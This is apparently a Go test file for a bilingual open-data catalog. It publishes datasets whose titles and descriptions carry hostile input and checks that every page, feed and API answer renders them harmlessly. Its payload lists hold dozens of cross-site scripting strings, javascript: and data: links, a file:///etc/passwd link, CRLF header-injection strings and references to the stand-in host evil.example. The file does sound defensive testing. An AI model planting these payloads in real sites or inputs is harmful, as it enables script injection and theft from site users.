package main

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/openshafaf/shafaf/catalog"
)

// hostilePayloads are what is written in the hope that a browser takes it for
// markup, script or an address, or a reader for something else.
var hostilePayloads = [][2]string{
	{"script", "<script>hostile()</script>"},
	{"script in capitals with a slash", "<SCRIPT/SRC=//evil.example></SCRIPT >"},
	{"script that closes the title", "</title></textarea></h1><script>hostile()</script>"},
	{"script that closes a data block", "</script><script>hostile()</script>"},
	{"script in a comment that ends", "<!--><script>hostile()</script>-->"},
	{"script in a section of data", "]]><script>hostile()</script><![CDATA["},
	{"script without an end", "<script src=//evil.example "},
	{"script with a NUL", "<scr\x00ipt>hostile()</scr\x00ipt>"},
	{"double quote and handler", `" onmouseover="hostile()" x="`},
	{"single quote and handler", `' onfocus='hostile()' autofocus='`},
	{"backtick and handler", "` onload=`hostile()` <b"},
	{"quote that closes a tag", `"><img src=x onerror=hostile()>`},
	{"image with a handler", "<img/src/onerror=hostile()>"},
	{"picture with a handler", "<svg/onload=hostile()>"},
	{"picture with a script", "<svg><script>hostile()</script><animate onbegin=hostile() attributeName=x>"},
	{"frame with a page in it", `<iframe srcdoc="<script>hostile()</script>"></iframe>`},
	{"object", `<object data="data:text/html,<script>hostile()</script>">`},
	{"style", "<style>@import '//evil.example';</style><p style=background:url(//evil.example)>"},
	{"base", "<base href=//evil.example/>"},
	{"refresh", `<meta http-equiv=refresh content="0;url=//evil.example">`},
	{"form", `<form action=//evil.example><input type=submit formaction=javascript:hostile()>`},
	{"element of its own", "<hostile-x hostile-attr=1>"},
	{"mathematics", `<math><mtext><table><mglyph><style><img src=x onerror=hostile()>`},
	{"template", "{{.}}{{template \"layout\" .}}{n}{a}{{js .}}${7*7}"},
	{"escaped entities", "&lt;script&gt;hostile()&lt;/script&gt;&#60;img src=x onerror=hostile()&#62;"},
	{"percent escapes", "%3Cscript%3Ehostile()%3C/script%3E%0d%0aX-Hostile:1"},
	{"UTF-7", "+ADw-script+AD4-hostile()+ADw-/script+AD4-"},
	{"wide and small brackets", "＜script＞hostile()＜/script＞﹤img src=x onerror=hostile()﹥"},
	{"separators of lines", "a\u2028b\u2029c\u0085d<script>"},
	{"line ends", "a\r\nSet-Cookie: hostile=1\r\n\r\n<script>hostile()</script>"},
	{"letters turned round", "\u202Egpj.exe\u2069\u2066\u202Dx\u2067"},
	{"tower of marks", "Z" + strings.Repeat("\u0301\u0335", 200)},
	{"no character", "a\uFFFE\uFFFF\U0010FFFFb"},
}

// hostileMarkdown are the same for what is read as Markdown.
var hostileMarkdown = [][2]string{
	{"link of script", "[x](javascript:hostile())"},
	{"link of script in capitals with blanks", "[x]( JaVaScRiPt:hostile() )"},
	{"link of script in entities", "[x](&#106;avascript&colon;hostile())"},
	{"link of script over lines", "[x](java\n\tscript:hostile())"},
	{"link of script in Visual Basic", "[x](vbscript:hostile)"},
	{"link of data", "[x](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=)"},
	{"link of a file", "[x](file:///etc/passwd)"},
	{"link with a title that breaks out", `[x](https://evil.example "\" onmouseover=\"hostile()")`},
	{"link with a quote", `[x](https://evil.example/"onmouseover="hostile())`},
	{"reference to script", "[x][1]\n\n[1]: javascript:hostile()"},
	{"link in angle brackets", "<javascript:hostile()>"},
	{"link that is found", `https://evil.example/"onmouseover="hostile()<script>`},
	{"image from elsewhere", "![x](https://evil.example/pixel.png)"},
	{"image of data", "![x](data:image/svg+xml,<svg onload=hostile()>)"},
	{"heading with markup", "# <img src=x onerror=hostile()>"},
	{"block of markup", "<div>\n\n<script>hostile()</script>\n\n</div>"},
	{"code that ends", "`</code><script>hostile()</script>`\n\n```html\n</pre><script>hostile()</script>\n```"},
	{"quotes without end", strings.Repeat("> ", 20_000) + "x"},
	{"brackets without end", strings.Repeat("[", 30_000)},
	{"lists within lists", strings.Repeat("1. ", 20_000)},
	{"links in links", strings.Repeat("[a](", 15_000)},
	{"stars without end", strings.Repeat("*a_", 20_000)},
}

// hostileTexts gives a dataset each payload for a title and a description in
// both languages, and each piece of Markdown for a description, publishes it,
// and looks at all that tells of it.
func hostileTexts(t *testing.T, s *siege) {
	try := func(name string, title, about string) {
		s.try(t, name, func(t *testing.T) {
			slug := s.publish(t, map[string]any{"title": map[string]string{"en": title, "fa": title}, "description": map[string]string{"en": about, "fa": about}})
			for _, lang := range []string{"en", "fa"} {
				page := s.send(t, shot{path: "/" + lang + "/datasets/" + slug})
				if page.status != http.StatusOK {
					t.Fatalf("the page answers %d", page.status)
				}
				page.harmless(t, "the page in "+lang)
				if seen, want := squeezed(text(page.body)), squeezed(strings.ToValidUTF8(strings.ReplaceAll(title, "\x00", "\uFFFD"), "\uFFFD")); !strings.Contains(seen, want) {
					t.Errorf("the title is not there as a text: %.200q", want)
				}
				if len(about) > 40_000 && name != "lists within lists" && name != "quotes without end" && !strings.Contains(text(page.body), about[:100]) {
					t.Error("what is too much to be read as Markdown is not shown as it is")
				}
				s.send(t, shot{path: "/" + lang + "/datasets?q=" + url.QueryEscape(title)}).harmless(t, "the search")
			}
			for _, path := range []string{"/api/v1/datasets/" + slug, "/en/datasets/" + slug + "/columns", "/en/datasets/" + slug + "/ask"} {
				s.send(t, shot{path: path}).harmless(t, path)
			}
		})
	}
	for _, p := range hostilePayloads {
		try(p[0], "quarry "+p[1], p[1])
	}
	for _, p := range hostileMarkdown {
		try(p[0], "Numbers", p[1])
	}
	s.try(t, "a mebibyte of marks", func(t *testing.T) {
		a := s.call(t, "editor", "POST", "/api/v1/datasets", `{"agency":"own-agency","title":{"en":"Z`+strings.Repeat("\u0301", 1<<19)+`"}}`)
		if a.status != http.StatusRequestEntityTooLarge && a.status != http.StatusUnprocessableEntity {
			t.Errorf("it is answered %d", a.status)
		}
	})
	for name, title := range map[string]string{"invalid UTF-8": "a\xff\xfe\xc0\xbcb", "an overlong bracket": "\xc0\xbcscript\xc0\xbe"} {
		s.try(t, name, func(t *testing.T) {
			a := s.call(t, "editor", "POST", "/api/v1/datasets", `{"agency":"own-agency","title":{"en":"`+title+`"}}`)
			if a.status != http.StatusUnprocessableEntity && (a.status != http.StatusCreated || !utf8.Valid(a.body) || strings.Contains(string(a.body), "<")) {
				t.Errorf("it is answered %d %s", a.status, a.body)
			}
		})
	}
	s.try(t, "half a pair of surrogates", func(t *testing.T) {
		slug := s.publish(t, map[string]any{"title": map[string]string{"en": "half"}, "description": map[string]string{"en": "x"}})
		s.call(t, "publisher", "PATCH", "/api/v1/datasets/"+slug, `{"title":{"en":"half \ud800 \udc00\ud800"}}`, "If-Match", "*")
		s.send(t, shot{path: "/en/datasets/" + slug}).harmless(t, "the page")
	})
	for _, path := range []string{"/feeds/new.atom", "/feeds/changed.atom", "/feeds/new.atom?lang=fa", "/data.json", "/sitemap.xml", "/sitemap-1.xml", "/api/v1/datasets", "/en/", "/fa/", "/en/datasets", "/fa/agencies/own-agency", "/en/desk/datasets", "/en/desk", "/en/desk/log", "/api/v1/desk/datasets"} {
		s.try(t, "all of them at "+path, func(t *testing.T) {
			a := s.send(t, shot{path: path, who: "operator"})
			if a.status != http.StatusOK {
				t.Fatalf("%s answers %d", path, a.status)
			}
			a.harmless(t, path)
		})
	}
}

// squeezed is a text with single blanks, as a browser shows it.
func squeezed(s string) string { return strings.Join(strings.Fields(s), " ") }

// publish makes a dataset by what a program says of it, gives it the table that
// all have, publishes it, and returns its slug.
func (s *siege) publish(t *testing.T, about map[string]any) string {
	t.Helper()
	about["agency"] = "own-agency"
	body, err := json.Marshal(about)
	if err != nil {
		t.Fatal(err)
	}
	made := s.call(t, "publisher", "POST", "/api/v1/datasets", string(body)).want(t, "create", http.StatusCreated).dataset(t)
	var d catalog.DeskDataset
	err = s.portal.store.Write(t.Context(), func(tx *catalog.Tx) error {
		d, _, err := tx.AddFile(&catalog.Shell, made.ID, made.Revision, s.table(t))
		if err == nil {
			_, err = tx.Publish(&catalog.Shell, d.ID, d.Revision, time.Time{})
		}
		return err
	})
	if err == nil {
		d, err = s.portal.store.DeskDataset(t.Context(), &catalog.Shell, made.ID)
	}
	if err == nil {
		err = s.index.CatchUp(t.Context(), s.portal.store, nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return d.Slug
}
